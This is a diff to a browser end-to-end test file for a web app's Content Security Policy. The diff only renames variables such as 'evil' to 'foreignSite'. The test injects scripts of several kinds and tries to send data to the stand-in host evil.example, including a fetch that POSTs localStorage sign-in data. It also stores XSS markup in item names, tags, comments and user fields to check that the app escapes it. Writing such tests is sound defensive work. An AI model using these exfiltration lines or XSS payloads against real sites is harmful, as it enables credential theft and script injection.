@@ -6,7 +6,7 @@ import { addItem } from '../apps/server/test/inventory.ts'
 import { createClient } from './items.ts'
 import { expect, type Page, test } from './vitrine.ts'
 
-const evil = 'http://evil.example'
+const foreignSite = 'http://evil.example'
 
 /** Ways to inject a script; each records that it ran. */
 const attempts = `
@@ -16,7 +16,7 @@ const attempts = `
   const tried = (work) => { try { work() } catch {} }
   window.ran.push('a script of our own')
   script({ textContent: ran('an inline script') })
-  script({ src: '${evil}/script.js' })
+  script({ src: '${foreignSite}/script.js' })
   script({ src: 'data:text/javascript,' + ran('a data script') })
   script({ src: URL.createObjectURL(new Blob([ran('a blob script')])) })
   markup("<img src='data:,' onerror='" + ran('an event handler') + "'>")
@@ -26,11 +26,11 @@ const attempts = `
   tried(() => eval(ran('eval')))
   tried(() => new Function(ran('a made function'))())
   setTimeout(ran('a timer'))
-  fetch('${evil}/fetched', { method: 'POST', mode: 'no-cors', body: localStorage.signInInfo }).catch(() => {})
-  new Image().src = '${evil}/picture'
-  navigator.sendBeacon('${evil}/beacon', 'x')
-  markup("<object data='${evil}/object'></object><iframe src='${evil}/frame'></iframe>")
-  markup("<form id='form' action='${evil}/form' method='post' target='hidden'><iframe name='hidden'></iframe></form>")
+  fetch('${foreignSite}/fetched', { method: 'POST', mode: 'no-cors', body: localStorage.signInInfo }).catch(() => {})
+  new Image().src = '${foreignSite}/picture'
+  navigator.sendBeacon('${foreignSite}/beacon', 'x')
+  markup("<object data='${foreignSite}/object'></object><iframe src='${foreignSite}/frame'></iframe>")
+  markup("<form id='form' action='${foreignSite}/form' method='post' target='hidden'><iframe name='hidden'></iframe></form>")
   document.getElementById('form').submit()
 `
 
@@ -62,7 +62,7 @@ const injectAttempts = `
 /** Records which scripts ran, which were refused, and which requests left the browser. */
 async function watchAttempts(page: Page) {
   const sentPaths: string[] = []
-  await page.route(`${evil}/**`, (route) => {
+  await page.route(`${foreignSite}/**`, (route) => {
     sentPaths.push(new URL(route.request().url()).pathname)
     return route.fulfill({
       contentType: 'text/javascript',
@@ -104,7 +104,7 @@ test('only our scripts run, and only our requests are sent', async ({
 test.describe('without the policy', { tag: '@only-with-all' }, () => {
   test.use({ bypassCSP: true })
 
-  test('everything would run and be sent', async ({ page }) => {
+  test('every attempt of the story above would run and be sent', async ({ page }) => {
     const { ran, sent } = await watchAttempts(page)
     await page.goto('/car/1')
     await page.evaluate(injectAttempts)
@@ -128,7 +128,7 @@ test.describe('without the policy', { tag: '@only-with-all' }, () => {
       .toEqual(['/beacon', '/fetched', '/form', '/frame', '/object', '/picture', '/script.js'])
   })
 
-  const markup = `</script></style><script>window.hurt=1</script><img src="/x" onerror="window.hurt=2"><svg onload="window.hurt=3">`
+  const hostileMarkup = `</script></style><script>window.hurt=1</script><img src="/x" onerror="window.hurt=2"><svg onload="window.hurt=3">`
 
   test('markup in a text is shown on every staff screen, never run', async ({
     page,
@@ -136,23 +136,23 @@ test.describe('without the policy', { tag: '@only-with-all' }, () => {
     signInAs,
   }) => {
     const staff = await createClient(server, 'root')
-    const id = await addItem(staff, { name: markup, description: markup })
+    const id = await addItem(staff, { name: hostileMarkup, description: hostileMarkup })
     await staff.call(api.inventory.saveTags, {
-      body: { itemId: id, tags: { artist: markup, technique: markup } },
+      body: { itemId: id, tags: { artist: hostileMarkup, technique: hostileMarkup } },
     })
-    await staff.call(api.comments.add, { body: { itemId: id, comment: markup } })
+    await staff.call(api.comments.add, { body: { itemId: id, comment: hostileMarkup } })
     const tag = await staff.call(api.journal.addTag, {
       body: { name: '<img src=/x onerror=window.hurt=4>' },
     })
     await staff.call(api.journal.add, {
-      body: { comment: markup, date: '2026-05-31', tags: [tag.id] },
+      body: { comment: hostileMarkup, date: '2026-05-31', tags: [tag.id] },
     })
     await staff.call(api.users.create, {
       body: {
         email: '',
         gender: 'male',
-        firstName: markup.slice(0, 90),
-        lastName: markup.slice(33),
+        firstName: hostileMarkup.slice(0, 90),
+        lastName: hostileMarkup.slice(33),
         phone: '',
         role: 'employee',
       },
@@ -202,7 +202,7 @@ test('a frame on another site stays empty', async ({ page, server, expectFault }
 
   await page.goto(`http://127.0.0.1:${port}/`)
   const frameUrls = () => page.frames().map((frame) => frame.url())
-  const empty = 'chrome-error://chromewebdata/'
-  await expect.poll(frameUrls).toEqual([page.url(), frames[0], ...paths.map(() => empty)])
+  const blockedFrame = 'chrome-error://chromewebdata/'
+  await expect.poll(frameUrls).toEqual([page.url(), frames[0], ...paths.map(() => blockedFrame)])
   site.close()
 })
